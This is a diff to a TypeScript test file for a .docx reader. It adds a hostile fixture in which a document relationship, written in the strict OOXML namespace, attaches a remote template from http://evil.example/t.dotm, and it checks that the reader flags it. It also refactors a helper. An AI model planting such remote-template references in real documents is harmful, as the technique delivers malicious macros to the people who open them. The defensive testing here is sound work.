@@ -129,6 +129,15 @@ const HOSTILE: readonly (readonly [string, () => Uint8Array, RegExp])[] = [
     /template from another computer/,
   ],
   [
+    'a template on the web, said otherwise',
+    () =>
+      withPart(
+        'word/_rels/settings.xml.rels',
+        "<Relationships><Relationship TargetMode='External' Target='http://evil.example/t.dotm' Type='http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate'/></Relationships>",
+      ),
+    /template from another computer/,
+  ],
+  [
     'a template on a share',
     () => settingsWith('file:///\\\\evil\\t.dotm'),
     /template from another computer/,
@@ -250,6 +259,6 @@ describe('readApart', () => {
 });
 
 function docxWithout(name: string): Uint8Array {
-  const { [name]: _, ...parts } = docxParts(BODY);
-  return packDocx(parts);
+  const parts = Object.entries(docxParts(BODY)).filter(([each]) => each !== name);
+  return packDocx(Object.fromEntries(parts));
 }
